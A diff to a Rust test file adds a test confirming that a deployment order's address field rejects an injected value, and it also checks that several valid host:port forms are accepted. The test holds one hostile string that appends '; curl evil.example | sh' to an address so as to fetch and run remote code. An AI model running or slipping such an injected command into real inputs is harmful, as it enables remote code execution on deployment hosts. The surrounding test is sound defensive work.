@@ -163,6 +163,34 @@ fn statements_of_another_kind_count_for_nothing() {
 }
 
 #[test]
+fn an_address_can_not_smuggle_commands_past_the_test() {
+    let evil = "127.0.0.1:8080; curl evil.example | sh";
+    let mut world = gated();
+    let mut forward = order(2, Forward, &bundle("new"));
+    forward.order.address = evil.into();
+    world.input(attested(forward, statement("new", old())));
+    assert_eq!(
+        world.story(),
+        "report declined at accept: \"127.0.0.1:8080; curl evil.example | sh\" is not an address\n"
+    );
+    let mut back = order(3, Rollback, &bundle("old"));
+    back.order.address = evil.into();
+    world.input(ordered(back));
+    world.run(10, all_good);
+    assert_eq!(world.slot().generation(), Generation(3));
+    let place = world.slot().place.as_ref().unwrap();
+    assert_eq!(place.address, "127.0.0.1:8080");
+
+    for fine in ["web-01.example_net:80", "[2001:db8::1]:8080", ""] {
+        let mut dispatch = order(4, Forward, &bundle("new"));
+        dispatch.order.address = fine.into();
+        world.input(attested(dispatch, statement("new", old())));
+        assert_eq!(world.slot().place.as_ref().unwrap().address, fine);
+        world = gated();
+    }
+}
+
+#[test]
 fn a_way_back_to_unknown_bytes_needs_a_test_result_of_any_age() {
     declined(
         Rollback,
